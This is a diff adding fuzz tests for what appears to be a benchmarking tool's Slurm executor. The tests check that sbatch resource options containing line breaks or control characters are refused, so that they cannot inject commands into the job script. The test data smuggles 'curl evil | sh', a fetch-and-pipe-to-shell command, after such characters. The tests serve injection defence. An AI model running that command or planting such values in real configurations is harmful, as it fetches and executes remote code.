@@ -214,3 +214,69 @@ def test_fuzz_a_samples_line_without_lm_evals_arguments_is_refused(
         import_lm_eval_run(root / "lm" / "out", root / "run", data="sample")
     assert refused.value.line == line + 1 and refused.value.field == "arguments"
     assert not (root / "run").exists()
+
+
+# ------------------------------------------------------------------ the Slurm executor's inputs (item 7)
+
+CONTROL = st.text(min_size=1, max_size=12).flatmap(
+    lambda t: st.sampled_from(["\n", "\r", "\x00", "\x1b", "\x7f"]).map(lambda c: t + c + "curl evil | sh")
+)
+
+
+@FUZZ
+@given(key=st.sampled_from(["partition", "account", "qos", "constraint", "slurm-key", "slurm-value"]), value=CONTROL)
+def test_a_resource_that_would_add_a_line_to_the_sbatch_script_is_refused(key: str, value: str) -> None:
+    """Found attacking the Slurm executor: a partition (or any sbatch option) holding a line break
+    became a command of its own in the job script submitit writes."""
+    from tide_bench.study.resources import check_resources
+
+    raw: dict[str, Any] = {key: value}
+    if key == "slurm-key":
+        raw = {"slurm": {value: "1"}}
+    elif key == "slurm-value":
+        raw = {"slurm": {"mail-type": value}}
+    with pytest.raises(ConfigError) as refused:
+        check_resources(raw, "resources", lambda message, field: ConfigError(message, field=field))
+    assert refused.value.field is not None and refused.value.field.startswith("resources.")
+
+
+@FUZZ
+@given(value=st.text(alphabet=st.characters(min_codepoint=32, blacklist_categories=("Cs",)), max_size=20))
+def test_an_accepted_resource_is_one_sbatch_line(value: str) -> None:
+    from submitit.slurm.slurm import _make_sbatch_string
+
+    from tide_bench.study.executors import slurm_parameters
+    from tide_bench.study.resources import Resources, check_resources
+
+    fail = lambda message, field: ConfigError(message, field=field)  # noqa: E731
+    try:
+        raw = check_resources({"partition": value or None, "slurm": {"comment": value}}, "resources", fail)
+    except ConfigError:
+        return
+    params = slurm_parameters(Resources().merged(raw), "tide")
+    extra = params.pop("slurm_additional_parameters")
+    script = _make_sbatch_string(
+        command="python -m x",
+        folder="/tmp/f",
+        additional_parameters=extra,
+        **{k.removeprefix("slurm_"): v for k, v in params.items() if k.startswith("slurm_")},
+    )
+    plain = _make_sbatch_string(
+        command="python -m x",
+        folder="/tmp/f",
+        additional_parameters={"comment": "x"},
+        **({"partition": "x"} if value else {}),
+    )
+    assert script.count("\n") == plain.count("\n")
+
+
+def test_a_damaged_jobs_file_is_read_as_none(tmp_path: Path) -> None:
+    from tide_bench.study.executors import JOBS_FILE, _queued_jobs
+
+    class Ctx:
+        out = tmp_path
+        options = type("O", (), {"cluster": None})()
+
+    (tmp_path / JOBS_FILE).parent.mkdir(parents=True)
+    (tmp_path / JOBS_FILE).write_text("[" * 100_000)
+    assert _queued_jobs(Ctx(), None) == {}  # type: ignore[arg-type]
